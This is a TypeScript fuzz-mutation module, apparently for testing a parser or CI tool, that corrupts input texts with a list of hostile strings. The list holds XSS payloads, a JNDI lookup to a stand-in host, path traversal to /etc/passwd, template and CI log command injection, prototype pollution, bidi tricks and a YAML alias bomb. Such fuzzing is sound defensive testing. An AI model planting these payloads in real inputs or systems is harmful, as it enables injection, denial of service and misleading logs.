import { mutateLines } from './mutate-lines.ts';
import { mutateTree } from './mutate-tree.ts';

/** Random numbers that a seed repeats (mulberry32, public domain algorithm by Tommy Ettinger). */
export function randomFrom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

/** Nine anchors of nine aliases each: a thousand million values, if anybody follows them all. */
const BOMB = `\nb0: &b0 [x]\n${Array.from({ length: 9 }, (_, level) => `b${level + 1}: &b${level + 1} [${`*b${level}, `.repeat(9)}]\n`).join('')}`;

/** Texts that break readers, terminals, workflow logs, pages and regular expressions. */
const HOSTILE: readonly string[] = [
  '\u001B[2J\u001B[31mred\u001B]8;;https://evil.test\u0007link\u001B]8;;\u0007',
  '\u009B31m',
  '\n::error file=a,line=1::injected\n',
  '%0A::set-output name=x::y',
  '##[error]injected',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '| a | b |\n|---|---|\n[x](javascript:alert(1))',
  '```\n# heading\n```',
  '\u202Eevil\u202C\u2066x\u2069',
  '\u0000',
  '\uFEFF',
  '\uD800',
  '__proto__',
  '{"__proto__": {"polluted": true}}',
  'constructor: { prototype: { polluted: true } }',
  '1e400',
  '-0',
  '99999999999999999999999999999999',
  '0x7fffffffffffffff',
  '2147483648h',
  'P99999999999999D',
  '${jndi:ldap://evil.test/a}',
  '{{ .Values.x }}',
  '{{'.repeat(200),
  '<% system("x") %>',
  '##MARK##@@MARK@@',
  '${'.repeat(100),
  '../../../../etc/passwd',
  'https://user:pass@evil.test:99999/%00',
  'a'.repeat(5000),
  'aA1-'.repeat(800),
  '['.repeat(300),
  '{"a":'.repeat(200),
  '- '.repeat(200),
  '&a [*a, *a]',
  '!!js/function "function(){}"',
  '<<: *x',
  '? [complex, key]\n: value',
  "'",
  '"',
  '#',
  ':',
  '\t',
  '\r\n',
  '---\n',
  '...\n',
  '%YAML 9.9\n---\n',
  BOMB,
  `a: ${'['.repeat(10_000)}`,
  `a: ${'{"a":'.repeat(10_000)}`,
  'x {\n'.repeat(10_000),
  '\u202Ea\u2069\u200Bb\u00ADc',
  '##vso[task.setvariable variable=x]y',
  '\r',
  '\u2028::error::x',
  '# firebreak-ignore verifier/audience-unchecked until=2099-01-01 owner=@x -- because\n',
];

/** Longest text that comes of it. */
const MAX_LENGTH = 200_000;

/** One mutated text; repeats for the same random numbers. */
export function mutate(text: string, other: string, next: () => number): string {
  const way = next();
  const tree = way < 0.4 ? mutateTree(text, next) : null;
  const result = tree ?? (way < 0.7 ? mutateLines(text, next) : mutateText(text, other, next));
  return result.slice(0, MAX_LENGTH);
}

/** Changes the text anywhere, whatever its grammar. */
function mutateText(text: string, other: string, next: () => number): string {
  const at = (length: number): number => Math.floor(next() * (length + 1));
  let result = text;
  const rounds = 1 + Math.floor(next() * 4);
  for (let round = 0; round < rounds; round += 1) {
    const from = at(result.length);
    const to = Math.min(result.length, from + at(40));
    const hostile = HOSTILE[Math.floor(next() * HOSTILE.length)] ?? '';
    switch (Math.floor(next() * 8)) {
      case 0:
        result = result.slice(0, from) + result.slice(to);
        break;
      case 1:
        result = result.slice(0, from) + hostile + result.slice(from);
        break;
      case 2:
        result = result.slice(0, from) + hostile + result.slice(to);
        break;
      case 3:
        result = result.slice(0, from);
        break;
      case 4:
        result = result.slice(0, from) + other.slice(at(other.length)).slice(0, 2000) + result.slice(to);
        break;
      case 5:
        result = result.slice(0, from) + String.fromCharCode(Math.floor(next() * 0xffff)) + result.slice(from);
        break;
      case 6:
        result = replaceValue(result, hostile, next);
        break;
      default:
        result = result.slice(0, from) + result.slice(from, to).repeat(3) + result.slice(to);
    }
  }
  return result;
}

/** Puts a text in the place of one value, so that the document stays one more often than not. */
function replaceValue(text: string, value: string, next: () => number): string {
  const values = [...text.matchAll(/([:=]\s*)("[^"\n]*"|[^\s{}[\],"#]+)/g)];
  const chosen = values[Math.floor(next() * values.length)];
  if (chosen === undefined) return text;
  const start = chosen.index + (chosen[1]?.length ?? 0);
  const quoted = next() < 0.5 ? JSON.stringify(value) : value;
  return text.slice(0, start) + quoted + text.slice(start + (chosen[2]?.length ?? 0));
}
